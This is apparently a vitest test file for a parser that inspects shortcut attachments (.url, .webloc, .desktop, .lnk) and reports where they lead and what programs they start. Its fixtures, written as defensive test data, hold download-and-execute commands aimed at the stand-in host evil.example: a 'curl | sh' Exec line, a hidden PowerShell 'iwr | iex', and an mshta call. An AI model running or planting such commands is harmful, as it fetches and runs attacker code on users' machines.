import { readdirSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { findInFile, findOf } from '../../../testkit/src/find.ts'
import { mutated } from '../../../testkit/src/mutated.ts'
import { createReaders } from '../host/node.ts'
import { read as readHere } from './read.ts'

const readers = createReaders()
const samples = new URL('../../samples/shortcut/', import.meta.url)
const sample = async (name: string) => {
  const { links, traits, gaps } = await readers.read('shortcut', findInFile(new URL(name, samples)))
  return { hrefs: links.map(({ href }) => href), starts: traits.map(({ detail }) => detail), gaps }
}
const read = (text: string, name: string) => readers.read('shortcut', findOf(new TextEncoder().encode(text), name))

describe('a shortcut', () => {
  it('of Windows shows where it leads', async () => {
    const { links, gaps } = await read('[InternetShortcut]\r\nURL=https://evil.example/login?a=1\r\nIconIndex=0\r\n', 'Amazon.url')
    expect(links).toEqual([{ shown: 'Amazon.url', href: 'https://evil.example/login?a=1', from: 'attachment', at: null }])
    expect(gaps).toEqual([])
  })

  it('of Apple too', async () => {
    const plist = '<?xml version="1.0"?><plist><dict><key>URL</key>\n<string>https://evil.example/?a=1&amp;b=2</string></dict></plist>'
    expect((await read(plist, '銀行.webloc')).links.map(({ href }) => href)).toEqual(['https://evil.example/?a=1&b=2'])
  })

  it('of Linux may run a command', async () => {
    const { traits } = await read('[Desktop Entry]\nType=Application\nName[ja]=請求書\nExec=sh -c "curl evil.example|sh"\n', 'a.desktop')
    expect(traits).toEqual([{ id: 'starts-program', detail: 'sh -c "curl evil.example|sh"' }])
  })

  it('that can’t be read is not taken for clean', async () => {
    const { gaps } = await read('bplist00\u0001\u0002', 'a.webloc')
    expect(gaps).toEqual([{ id: 'attachment-content', detail: '2' }])
  })

  it.each([
    ['binary.webloc', 'https://evil.example/binary?a=1'],
    ['utf16.url', 'https://evil.example/utf16'],
    ['documents.library-ms', 'file://evil.example/share/files'],
    ['address.lnk', 'https://evil.example/item'],
    ['share.lnk', 'https://evil.example:8443/invoice.exe'],
  ])('%s leads to %s', async (name, href) => {
    expect(await sample(name)).toEqual({ hrefs: [href], starts: [], gaps: [] })
  })

  it('of Apple in its binary form, with a long address', async () => {
    expect((await sample('binary-japanese.webloc')).hrefs[0]).toMatch(/^https:\/\/evil\.example\/(?:long\/){20}$/)
  })

  it('may fetch its icon from elsewhere', async () => {
    expect((await sample('cp932.url')).hrefs).toEqual(['file://192.0.2.7/共有/請求書.exe', 'file://192.0.2.7/icon/a.ico'])
  })

  it.each([
    [
      'invoice.pdf.lnk',
      'C:\\Windows\\System32\\powershell.exe -w hidden -c iwr https://evil.example/a.ps1 | iex',
      'https://evil.example/a.ps1',
    ],
    ['encoded.lnk', 'C:\\Windows\\System32\\cmd.exe /c powershell -nop -enc', 'https://evil.example/a.ps1'],
    ['environment.lnk', '%windir%\\System32\\mshta.exe https://evil.example/x.hta', 'https://evil.example/x.hta'],
  ])('%s starts a program, with an address for it', async (name, command, href) => {
    const { hrefs, starts, gaps } = await sample(name)
    expect(starts[0]).toContain(command)
    expect(hrefs).toEqual([href])
    expect(gaps).toEqual([])
  })

  it('damaged at random is still read, or said not to be', async () => {
    const finds = readdirSync(samples)
      .filter((name) => !name.startsWith('make'))
      .map((name) => findInFile(new URL(name, samples)))
    for (const find of mutated(finds, 1_000)) {
      const { links, traits, gaps } = await readHere(find, { file: () => Promise.reject(new Error('none')), progress: () => {} })
      expect(links.length + traits.length + gaps.length).toBeGreaterThan(0)
    }
  })
})
